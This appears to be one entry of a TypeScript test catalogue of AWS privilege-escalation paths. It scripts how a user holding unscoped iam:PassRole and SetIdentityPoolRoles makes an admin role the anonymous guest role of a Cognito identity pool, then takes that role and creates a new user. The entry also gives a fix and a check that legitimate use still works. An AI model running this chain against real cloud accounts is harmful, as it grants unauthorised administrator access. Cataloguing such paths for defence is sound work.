import { ADMINISTRATOR, allow, policy, role, roleArn, user, userPolicy, when } from '../documents.ts';
import type { Answers, PathRow } from '../row.ts';

const trust = policy({
  Effect: 'Allow',
  Principal: { Federated: 'cognito-identity.amazonaws.com' },
  Action: 'sts:AssumeRoleWithWebIdentity',
});
const set = allow('cognito-identity:SetIdentityPoolRoles');
const toCognito = when('StringEquals', 'iam:PassedToService', 'cognito-identity.amazonaws.com');
const roles =
  (name: string) =>
  ({ pool }: Answers) => ({ IdentityPoolId: pool.IdentityPoolId, Roles: { unauthenticated: roleArn(name) } });
const newGuest = ({ pool }: Answers) => ({ IdentityPoolId: pool.IdentityPoolId });

export const row: PathRow = {
  row: '32',
  title: 'A strong role given to the guests of an identity pool',
  given: [
    {
      call: 'cognito-identity:CreateIdentityPool',
      with: { IdentityPoolName: 'shop', AllowUnauthenticatedIdentities: true, AllowClassicFlow: true },
      name: 'pool',
    },
    ...role('Guest', trust, allow('s3:ListAllMyBuckets')),
    ...role('Support', trust),
    { call: 'iam:AttachRolePolicy', with: { RoleName: 'Support', PolicyArn: ADMINISTRATOR } },
    ...user('Eve', set, allow('iam:PassRole')),
  ],
  attacker: 'user/Eve',
  attack: [
    { call: 'cognito-identity:SetIdentityPoolRoles', with: roles('Support') },
    { call: 'cognito-identity:GetId', with: newGuest, as: 'anonymous', name: 'guest' },
    {
      call: 'cognito-identity:GetOpenIdToken',
      with: ({ guest }) => ({ IdentityId: guest.IdentityId }),
      as: 'anonymous',
      name: 'token',
    },
    {
      call: 'sts:AssumeRoleWithWebIdentity',
      with: ({ token }) => ({ RoleArn: roleArn('Support'), RoleSessionName: 'in', WebIdentityToken: token.Token }),
      as: 'anonymous',
      name: 'in',
    },
  ],
  gain: { call: 'iam:CreateUser', with: { UserName: 'Mole' }, as: 'from:in' },
  fixes: [
    {
      what: 'PassRole on named role ARNs and PassedToService',
      steps: [userPolicy('Eve', set, allow('iam:PassRole', roleArn('Guest'), toCognito))],
      stops: 'cognito-identity:SetIdentityPoolRoles',
    },
  ],
  work: [
    { call: 'cognito-identity:SetIdentityPoolRoles', as: 'user/Eve', with: roles('Guest') },
    { call: 'cognito-identity:GetId', with: newGuest, as: 'anonymous', name: 'visitor' },
    {
      call: 'cognito-identity:GetCredentialsForIdentity',
      with: ({ visitor }) => ({ IdentityId: visitor.IdentityId }),
      as: 'anonymous',
      name: 'visit',
    },
    { call: 's3:ListBuckets', as: 'from:visit' },
  ],
};
